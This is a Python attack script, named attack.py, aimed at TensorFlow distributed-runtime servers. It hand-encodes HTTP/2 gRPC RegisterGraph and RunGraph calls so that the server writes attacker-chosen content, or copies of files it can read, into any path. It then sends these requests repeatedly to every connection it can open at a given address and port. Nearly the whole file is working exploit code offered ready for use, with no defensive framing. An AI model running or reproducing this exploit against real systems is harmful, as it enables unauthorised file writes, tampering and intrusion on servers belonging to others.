"""A stranger's ready-made requests: they have a TensorFlow server write a file, and need no answer to do so.

Run as a program, with nothing but Python's own library: `python attack.py ADDRESS PORT SECONDS < REQUESTS` sends the
requests again and again to whatever accepts a connection there, and prints how many did.
"""

from __future__ import annotations

import collections
import contextlib
import socket
import sys
import time
import warnings
from pathlib import Path

_KEPT = 64  # connections that stay open


def requests(target: Path, text: str | Path, device: str) -> bytes:
    """Return the bytes of an HTTP/2 connection that registers a graph, which writes `text` into `target`, and runs it.

    Args:
        target: The file.
        text: What it shall hold: this text, or the content of a file that the server can read.
        device: The full name of the CPU of the server that is attacked.
    """
    with warnings.catch_warnings():
        # Older versions warn of NumPy's while they are imported, and a warning is an error here.
        warnings.simplefilter("ignore")
        import tensorflow as tf

    with tf.Graph().as_default() as graph, tf.device(device):
        tf.io.write_file(str(target), tf.io.read_file(str(text)) if isinstance(text, Path) else text)
    register = _field(2, graph.as_graph_def().SerializeToString())  # RegisterGraphRequest.graph_def
    stream = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + _call(1, "RegisterGraph", register)
    for number in range(1, 40):
        # RunGraphRequest.graph_handle: a server counts them up from 1. step_id: any that is not in use.
        run = _field(1, b"%016x" % (1 + number % 4)) + _varint(2 << 3) + _varint(1 << 40 | number)
        stream += _call(1 + 2 * number, "RunGraph", run)
    return stream


def _call(stream: int, method: str, message: bytes) -> bytes:
    """Return the frames of one gRPC call."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/tensorflow.WorkerService/{method}",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    block = b"".join(  # literal header fields that are not indexed, RFC 7541 6.2.2
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers.items()
    )
    data = b"\0" + len(message).to_bytes(4, "big") + message
    return _frame(1, 4, stream, block) + _frame(0, 1, stream, data)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _field(number: int, value: bytes) -> bytes:
    """Return a length-delimited field of a protocol buffer."""
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _varint(value: int) -> bytes:
    encoded = b""
    while value > 0x7F:
        encoded += bytes([value & 0x7F | 0x80])
        value >>= 7
    return encoded + bytes([value])


def attack(address: str, port: int, seconds: float, data: bytes) -> int:
    """Send `data` to each connection that is accepted within some seconds; return how many were."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    accepted = 0
    kept: collections.deque[socket.socket] = collections.deque(maxlen=_KEPT)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        dialing = socket.socket(family)
        dialing.settimeout(0.05)
        with contextlib.suppress(OSError):
            dialing.connect((address, port))
            accepted += 1
            dialing.sendall(data)
            if len(kept) == _KEPT:
                kept[0].close()
            kept.append(dialing)
            continue
        dialing.close()
    while kept:
        kept.pop().close()
    return accepted


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.stdin.buffer.read()))
